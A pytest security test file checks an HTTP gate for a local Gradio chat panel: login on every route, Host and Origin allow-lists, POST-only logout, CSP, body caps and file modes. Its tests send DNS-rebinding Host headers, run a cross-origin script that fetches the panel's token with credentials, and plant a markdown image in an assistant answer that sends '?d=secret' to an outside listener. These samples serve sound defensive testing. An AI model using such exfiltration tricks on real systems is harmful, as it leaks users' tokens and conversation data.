"""The HTTP gate (app/backend/web/gate.py) on a real panel over HTTP: every route behind one gate,
Host and Origin allow-lists in every mode, POST-only logout, CSP, body caps, login throttling per
user and address, file modes of the state dir. Issue 13's findings, one test each."""

from __future__ import annotations

import re
import stat
import time
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from app.backend.web.gate import PUBLIC_EXACT, PUBLIC_PREFIXES, GatePolicy, is_public, is_unused, parse_allowed_hosts
from tests.conftest import close_panel, free_port, launch_panel

from tests.security.conftest import PASSWORD


def port_of(url: str) -> int:
    return int(url.rsplit(":", 1)[1])


def mounted_routes(app: Any) -> list[tuple[str, frozenset[str]]]:
    """Every (path, methods) the launched app mounts, through FastAPI's included routers."""
    out: list[tuple[str, frozenset[str]]] = []
    stack = list(app.routes)
    while stack:
        route = stack.pop()
        inner = getattr(route, "original_router", None)
        if inner is not None:
            prefix = getattr(route, "prefix", "") or ""
            for sub in inner.routes:
                if prefix and not getattr(sub, "path", "").startswith(prefix):
                    sub = _Prefixed(prefix + sub.path, getattr(sub, "methods", None))
                stack.append(sub)
            continue
        out.append((getattr(route, "path", ""), frozenset(getattr(route, "methods", None) or {"GET"})))
    return out


class _Prefixed:
    def __init__(self, path: str, methods: Any) -> None:
        self.path, self.methods = path, methods


def concrete(path: str) -> str:
    """A request path for a route pattern: every {param} filled with a harmless value."""
    return re.sub(r"\{[^}]+\}", "x", path)


def login(client: httpx.Client, url: str) -> None:
    """Sign in as the panel's page does: the cookie, and the session key as a header from then on."""
    r = client.post(url + "/login", data={"username": "alice", "password": PASSWORD})
    assert r.status_code == 200, r.text
    client.headers["X-Moet-Session"] = r.headers["x-moet-session-key"]


# ---- 1. every route behind one gate ------------------------------------------------------------


def test_every_mounted_route_is_behind_the_login_or_on_the_public_list(authed) -> None:
    routes = mounted_routes(authed.blocks.server_app)
    paths = {p for p, _ in routes}
    assert "/gradio_api/queue/join" in paths and "/config" in paths  # the walk sees Gradio's router
    # Features the panel does not use are not mounted at all.
    assert not any(p.startswith(("/gradio_api/run-history", "/gradio_api/mcp", "/docs", "/redoc", "/openapi.json"))
                   for p in paths), sorted(paths)
    public = sorted(p for p in paths if is_public(p) or is_public(concrete(p)))
    # The whole public list, each entry justified in webgate.PUBLIC_EXACT / PUBLIC_PREFIXES and docs.
    for p in public:
        assert p in PUBLIC_EXACT or p.startswith(PUBLIC_PREFIXES), p
    refused = []
    with httpx.Client(timeout=10, follow_redirects=False) as c:
        with httpx.Client(timeout=10) as signed_in:
            login(signed_in, authed.url)
            session = dict(signed_in.cookies)
            key = {"X-Moet-Session": signed_in.headers["X-Moet-Session"]}
        for path, methods in routes:
            if is_public(path) or is_public(concrete(path)):
                continue
            method = sorted(methods - {"HEAD"})[0] if methods - {"HEAD"} else "GET"
            r = c.request(method, authed.url + concrete(path), json={} if method in ("POST", "PUT") else None)
            refused.append((path, r.status_code))
            if is_unused(concrete(path)):  # a Gradio feature the panel does not use: gone in every mode
                assert r.status_code == 404, (path, r.status_code)
                assert c.request(method, authed.url + concrete(path), cookies=session, headers=key).status_code == 404, path
                continue
            assert r.status_code in (401, 405), (path, method, r.status_code, r.text[:200])
            if r.status_code == 401 and path != "/logout":
                assert r.json()["detail"]["error"] == "Not authenticated"
    assert len(refused) > 40  # Gradio mounts dozens; a walk that found few would prove nothing


def test_run_history_routes_are_gone_in_the_default_mode(shared_panel) -> None:
    """Issue 13, high: `GET /gradio_api/run-history/buckets` answered without a session and called
    the Hub with the panel's token."""
    with httpx.Client(timeout=10) as c:
        for path in ("/gradio_api/run-history/buckets", "/gradio_api/run-history/records", "/gradio_api/runs"):
            assert c.get(shared_panel.url + path).status_code == 404, path
        r = c.post(shared_panel.url + "/gradio_api/run-history/connect", json={"bucket_id": "attacker/bucket"})
        assert r.status_code in (404, 405)
        assert c.get(shared_panel.url + "/config").json()["run_history"] is False


# ---- 2. Host and Origin allow-lists -------------------------------------------------------------


def test_unknown_host_is_refused_in_the_default_mode(shared_panel) -> None:
    """Issue 13, high: with `Host: evil.example:PORT` (DNS rebinding) `/config` answered 200."""
    port = port_of(shared_panel.url)
    with httpx.Client(timeout=10) as c:
        for host in (f"evil.example:{port}", "evil.example", f"127.0.0.1.evil.example:{port}", f"127.0.0.1:{port + 1}"):
            for path in ("/config", "/", "/gradio_api/info"):
                r = c.get(shared_panel.url + path, headers={"Host": host, "Origin": f"http://{host}"})
                assert r.status_code == 421, (host, path, r.status_code)
                assert "--allowed-host" in r.text and "profile-cards" not in r.text
        for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"[::1]:{port}", f"LOCALHOST:{port}"):
            assert c.get(shared_panel.url + "/config", headers={"Host": host}).status_code == 200, host


def test_foreign_origin_is_refused_and_its_preflight_too(shared_panel) -> None:
    port = port_of(shared_panel.url)
    own = f"http://127.0.0.1:{port}"
    with httpx.Client(timeout=10) as c:
        for origin in (f"http://127.0.0.1:{port + 1}", "http://localhost", "null", f"http://evil.example:{port}"):
            r = c.get(shared_panel.url + "/config", headers={"Origin": origin})
            assert r.status_code == 403 and "another site" in r.text, origin
            pre = c.options(shared_panel.url + "/gradio_api/queue/join",
                            headers={"Origin": origin, "Access-Control-Request-Method": "POST",
                                     "Access-Control-Request-Headers": "content-type"})
            assert pre.status_code == 403 and "access-control-allow-origin" not in pre.headers, origin
            join = c.post(shared_panel.url + "/gradio_api/queue/join", headers={"Origin": origin},
                          json={"data": [], "fn_index": 0, "session_hash": "x"})
            assert join.status_code == 403
        ok = c.get(shared_panel.url + "/config", headers={"Origin": own})
        assert ok.status_code == 200 and ok.headers.get("access-control-allow-origin") in (None, own)
        # Without Origin, a browser's cross-site subresource request is refused; a navigation is not.
        img = c.get(shared_panel.url + "/config", headers={"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "no-cors",
                                                          "Sec-Fetch-Dest": "image"})
        assert img.status_code == 403
        nav = c.get(shared_panel.url + "/", headers={"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate",
                                                    "Sec-Fetch-Dest": "document"})
        assert nav.status_code == 200


def test_forwarding_headers_are_refused_unless_behind_a_proxy(shared_panel) -> None:
    with httpx.Client(timeout=10) as c:
        r = c.get(shared_panel.url + "/config", headers={"X-Forwarded-For": "10.9.8.7"})
        assert r.status_code == 400 and "reverse proxy" in r.text


def test_allowed_host_option_serves_the_proxy_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`--allowed-host panel.example` (a reverse proxy's name) is served, with its own Origin."""
    from app.backend.recipe import SIMULATED_RECIPE
    from app.backend.config.settings import resolve_settings
    from app.backend.state import build_app_state
    from app.ui.app import build_ui, launch

    settings = resolve_settings(SIMULATED_RECIPE, tmp_path, demo=True)
    settings.ensure_state_dir()
    state = build_app_state(settings)
    blocks = build_ui(state)
    try:
        url = launch(blocks, "127.0.0.1", free_port(), None, allowed_hosts=("panel.example",))
        with httpx.Client(timeout=10) as c:
            r = c.get(url.rstrip("/") + "/config", headers={"Host": "panel.example", "Origin": "https://panel.example",
                                                            "X-Forwarded-For": "192.0.2.7", "X-Forwarded-Proto": "https"})
            assert r.status_code == 200
            assert c.get(url.rstrip("/") + "/config", headers={"Host": "other.example"}).status_code == 421
    finally:
        blocks.close()
        state.close()


def test_allowed_host_parsing_and_matching() -> None:
    assert parse_allowed_hosts(" Panel.Example , b.example:8443,") == ("panel.example", "b.example:8443")
    for bad in ("http://x", "a/b", "x:99999", "*.example"):
        with pytest.raises(ValueError, match="allowed host"):
            parse_allowed_hosts(bad)
    p = GatePolicy(port=7860, bind_host="192.168.1.20", allowed_hosts=("panel.example", "b.example:8443"))
    assert p.host_allowed("192.168.1.20:7860") and p.host_allowed("panel.example") and p.host_allowed("panel.example:443")
    assert p.host_allowed("b.example:8443") and not p.host_allowed("b.example:8444") and not p.host_allowed("b.example")
    assert not GatePolicy(port=7860, bind_host="0.0.0.0").host_allowed("0.0.0.0:7860")


# ---- logout, session, CSP, body caps -------------------------------------------------------------


def test_logout_is_post_only_and_ends_the_session(authed) -> None:
    """Issue 13, low: `GET /logout` was a state change any 127.0.0.1 page could trigger."""
    with httpx.Client(timeout=10, follow_redirects=False) as c:
        login(c, authed.url)
        assert c.get(authed.url + "/config").status_code == 200
        r = c.get(authed.url + "/logout")
        assert r.status_code == 405 and r.headers["allow"] == "POST"
        assert c.get(authed.url + "/config").status_code == 200  # still signed in
        foreign = c.post(authed.url + "/logout", headers={"Origin": f"http://127.0.0.1:{port_of(authed.url) + 1}"})
        assert foreign.status_code == 403
        out = c.post(authed.url + "/logout", headers={"Origin": authed.url})
        assert out.status_code == 302
        assert c.get(authed.url + "/config").status_code == 401  # the session is gone on the server
        c.cookies.clear()
        assert c.get(authed.url + "/config").status_code == 401


def test_every_answer_carries_the_csp_and_framing_headers(shared_panel) -> None:
    with httpx.Client(timeout=10) as c:
        for path in ("/", "/config", "/nonexistent"):
            h = c.get(shared_panel.url + path).headers
            csp = h["content-security-policy"]
            assert "img-src 'self' data: blob:" in csp and "frame-ancestors 'none'" in csp
            assert "connect-src 'self'" in csp and "frame-src 'none'" in csp
            assert h["x-frame-options"] == "DENY" and h["cross-origin-resource-policy"] == "same-origin"


def test_oversized_bodies_are_refused_before_gradio_reads_them(shared_panel) -> None:
    """Issue 13, low: a 50 MB message went through Gradio's send (828 MB RSS)."""
    with httpx.Client(timeout=30) as c:
        big = b'{"data": ["' + b"x" * (5 * 1024 * 1024) + b'"], "fn_index": 0, "session_hash": "x"}'
        r = c.post(shared_panel.url + "/gradio_api/queue/join", content=big,
                   headers={"Content-Type": "application/json"})
        assert r.status_code == 413 and "limit" in r.text


# ---- 3. login throttling ----------------------------------------------------------------------


# (issue 30 replaced the per-address lockout with paced logins: tests/security/test_throttle.py)


# ---- 4. file modes ----------------------------------------------------------------------------


def test_state_dir_is_0700_and_chat_history_0600(tmp_path: Path) -> None:
    """Issue 13, low: the state dir and chat/telemetry databases were world-readable."""
    state = tmp_path / "data" / ".moet-panel"
    state.mkdir(parents=True, mode=0o755)
    state.chmod(0o755)  # an older panel's dir is tightened too
    p = launch_panel(tmp_path / "data")
    try:
        assert stat.S_IMODE(state.stat().st_mode) == 0o700
        p.state.chat.new_conversation("mode check")
        deadline = time.monotonic() + 30  # the telemetry hub opens its database on its own thread
        while not (state / "telemetry.sqlite").exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        for name in ("chat.sqlite", "chat.sqlite-wal", "telemetry.sqlite", "telemetry.sqlite-wal"):
            f = state / name
            if not name.endswith("-wal") or f.exists():
                assert stat.S_IMODE(f.stat().st_mode) == 0o600, name
    finally:
        close_panel(p)


# ---- browser: cross-origin page, CSP in the page, remote images --------------------------------


class _Listener:
    """A local HTTP server that records every request (the leak catcher) and serves `page`."""

    def __init__(self, page: str = "") -> None:
        self.hits: list[str] = []
        hits, body = self.hits, page.encode()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.mark.browser
def test_a_page_on_another_local_port_cannot_read_the_signed_in_panel(authed, browser) -> None:
    """Issue 13, medium: a page on another port of 127.0.0.1 read `/gradio_api/token` and `/config`
    of a signed-in panel."""
    page = browser.new_page()
    page.goto(authed.url)
    page.get_by_label("username", exact=False).fill("alice")
    page.get_by_label("password", exact=False).fill(PASSWORD)
    page.get_by_role("button", name="Login").click()
    page.wait_for_selector("#profile-cards")
    evil = _Listener("<html><body>hello</body></html>")
    try:
        other = page.context.new_page()
        other.goto(evil.url)
        got = other.evaluate("""async (panel) => {
          const out = {};
          for (const path of ['/gradio_api/token', '/config']) {
            try { const r = await fetch(panel + path, {credentials: 'include'}); out[path] = await r.text(); }
            catch (e) { out[path] = 'blocked: ' + e; }
          }
          return out;
        }""", authed.url)
        for path, text in got.items():
            assert text.startswith("blocked"), (path, text[:200])
        own = page.evaluate("async () => (await fetch('/config')).status")
        assert own == 200  # the panel's own page still reads it
    finally:
        evil.close()


@pytest.mark.browser
def test_remote_image_in_a_model_answer_makes_no_request(panel, browser) -> None:
    """Issue 13, low-medium: `![x](http://host/?d=secret)` in an answer leaked text to that host.
    The page (under its CSP) still works: the conversation renders, Gradio's page runs."""
    import json

    listener = _Listener()
    try:
        conv = {"format": "moet-panel.chat", "version": 1, "conversation": {
            "id": "leakcheck", "title": "leak check", "messages": [
                {"role": "user", "content": "show me"},
                {"role": "assistant", "content": f"Here: ![x]({listener.url}/?d=secret) and the rest of the answer."}]}}
        panel.state.chat.import_json(json.dumps(conv))
        page = browser.new_page()
        page.goto(panel.url)
        page.get_by_role("tab", name="Chat").click()
        page.locator("#chat-bot", has_text="the rest of the answer").wait_for()
        # `complete` turns true once the image has loaded or failed: after any request it made was answered.
        page.wait_for_function("() => { const i = document.querySelector('#chat-bot img'); return i && i.complete; }")
        assert listener.hits == [], listener.hits
        errors = [e for e in browser.console_errors if "Content Security Policy" not in e]
        assert not errors, errors
        assert any("Content Security Policy" in e for e in browser.console_errors)  # the CSP did the refusing
    finally:
        listener.close()
